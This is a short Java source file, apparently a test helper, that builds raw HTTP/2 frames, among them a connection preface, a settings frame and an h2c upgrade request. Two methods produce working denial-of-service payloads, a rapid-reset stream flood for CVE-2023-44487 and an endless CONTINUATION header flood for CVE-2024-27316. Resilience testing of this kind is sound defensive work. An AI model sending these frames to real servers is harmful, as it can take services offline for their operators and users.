package dev.angarium.hostile;

import static java.nio.charset.StandardCharsets.ISO_8859_1;

/** Frames of HTTP/2 as bytes, one character each. */
final class Http2 {
    static final String PREFACE = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
    static final String SETTINGS = frame(4, 0, 0, "");
    static final String UPGRADE = "GET /health/live HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            + "Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n";

    private static final int HEADERS = 1;
    private static final int RESET = 3;
    private static final int CONTINUATION = 9;

    /** GET, http and / out of HPACK's static table. */
    private static final String GET = "\u0082\u0086\u0084";

    private Http2() {}

    /** CVE-2023-44487: streams that are reset as soon as they are opened. */
    static String resets(int streams) {
        var frames = new StringBuilder();
        for (var no = 1; no < 2 * streams; no += 2) {
            frames.append(frame(HEADERS, 5, no, GET)).append(frame(RESET, 0, no, "\0\0\0\u0008"));
        }
        return frames.toString();
    }

    /** CVE-2024-27316 and its kin: a head that goes on and on. */
    static String continuations(int count) {
        return frame(HEADERS, 0, 1, GET) + frame(CONTINUATION, 0, 1, "\0\1a\1b").repeat(count);
    }

    private static String frame(int type, int flags, int stream, String payload) {
        var head = new byte[] {
            0,
            (byte) (payload.length() >> 8),
            (byte) payload.length(),
            (byte) type,
            (byte) flags,
            (byte) (stream >> 24),
            (byte) (stream >> 16),
            (byte) (stream >> 8),
            (byte) stream
        };
        return new String(head, ISO_8859_1) + payload;
    }
}
